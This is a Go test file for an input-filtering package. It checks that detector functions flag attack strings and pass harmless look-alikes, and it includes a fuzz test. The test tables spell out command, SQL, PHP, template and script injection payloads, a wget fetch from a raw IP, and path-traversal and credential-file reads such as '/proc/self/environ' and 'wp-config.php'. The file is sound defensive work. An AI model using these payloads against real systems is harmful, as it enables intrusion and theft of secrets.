package signs

import "testing"

// Each family with what looks like it and does nothing beside what a rule has to stop.
func TestSigns_tellAttacksFromWhatLooksLikeThem(t *testing.T) {
	for _, tt := range []struct {
		name  string
		signs func(string) bool
		inert []string
		acts  []string
	}{
		{
			"command", Command,
			[]string{
				"Step 4/9 : apt-get update finished after cat and tail; see the log of the build",
				"how do I find a good time to echo the sleep of a child? (a guide)",
				"make clean && make all, then wait",
				"/usr/bin/php",
				"docs: explain head and tail of the list",
			},
			[]string{
				";{cat,/etc/hosts}", "127.0.0.1|id", "x`id`", "a$(id)", "cat /etc/hosts", "wget http://198.51.100.9/a",
				"/usr/bin/gunzip -c /var/log/a.gz", "bin/ansible", "cmd=/bin/unxz -c /var/log/a.xz", "timeout 5 sh", "t'i'me -v id", "openssl enc -d -a",
				"kubectl-debug attach node", "printf hs.x/pmt/ tac | rev | sh", "() { :; }; id", "/b?n/c[a]t x", "p''ython x.py and more of it",
			},
		},
		{
			"batch", Batch,
			[]string{"if it exists, tell me", "50 % of them in (town)"},
			[]string{"if exist c:\\a echo b", "%%f in (*.txt)", "%USERNAME%"},
		},
		{
			"query", Query,
			[]string{
				"sleep(8 hours)", "we select a size from the list", "it is 5 or 6 of them, and \"like\" new",
				"Dr. O'Neil and the order of things", "a list of 'a', 'b', 'c', 'd', 'e' or 'f' and 'g'",
			},
			[]string{
				"1 or 1=1", "x' and sleep(5)-- -", "1 union select name, pass from users", "x'; drop table users", "1) or (1=1",
				"SELECT IIF(1 > 1, 'TRUE', 'FALSE' )", "１' ｏｒ １=１", "0 and (select count(*) from sysusers) > 0", "id order by 4 --",
			},
		},
		{
			"php", PHP,
			[]string{"the function system() is switched off on most of these servers", "PHP Fatal error in include at line 12, see the manual of require"},
			[]string{"<?= 1", "x system('id') and a long rest of forty letters", "php://filter/read=a", "$f = 'sys'; $f('id')", "phpinfo()"},
		},
		{
			"script", Script,
			[]string{"the process of a constructional change", "please open the window and load the lorry"},
			[]string{"require('child_process')", "process.env", "{{7*7}}", "x.constructor", "eval('1')", "${7*7}"},
		},
		{
			"page", Page,
			[]string{"TypeError: cannot call alert of undefined", "we confirm your order and print it"},
			[]string{"';alert(1)//", "javascript:alert(1)", "\" onfocus=x", "document.cookie", "\\u003cimg", "[][(![]+[])](1)"},
		},
		{
			"file", File,
			[]string{"see /etc/hosts of the machine for the names", "opened C:\\Users\\suzuki\\report.txt today", "/var/www/html/index.html"},
			[]string{"../../etc/hosts", "/etc/subuid", "cat/etc/subuid", "cat /etc/subuid-", "file:///etc/passwd", ".env", "/proc/self/environ", "wp-config.php", "＼windows"},
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			for _, value := range tt.inert {
				if tt.signs(value) {
					t.Errorf("%q: got signs, want none", value)
				}
			}
			for _, value := range tt.acts {
				if !tt.signs(value) {
					t.Errorf("%q: got no sign, want one", value)
				}
			}
		})
	}
}

func FuzzSigns(f *testing.F) {
	f.Add("1' or 1=1-- -")
	f.Add("${IFS}％７")
	f.Fuzz(func(_ *testing.T, value string) {
		for _, signs := range []func(string) bool{Command, Batch, Query, PHP, Script, Page, File} {
			signs(value)
		}
	})
}
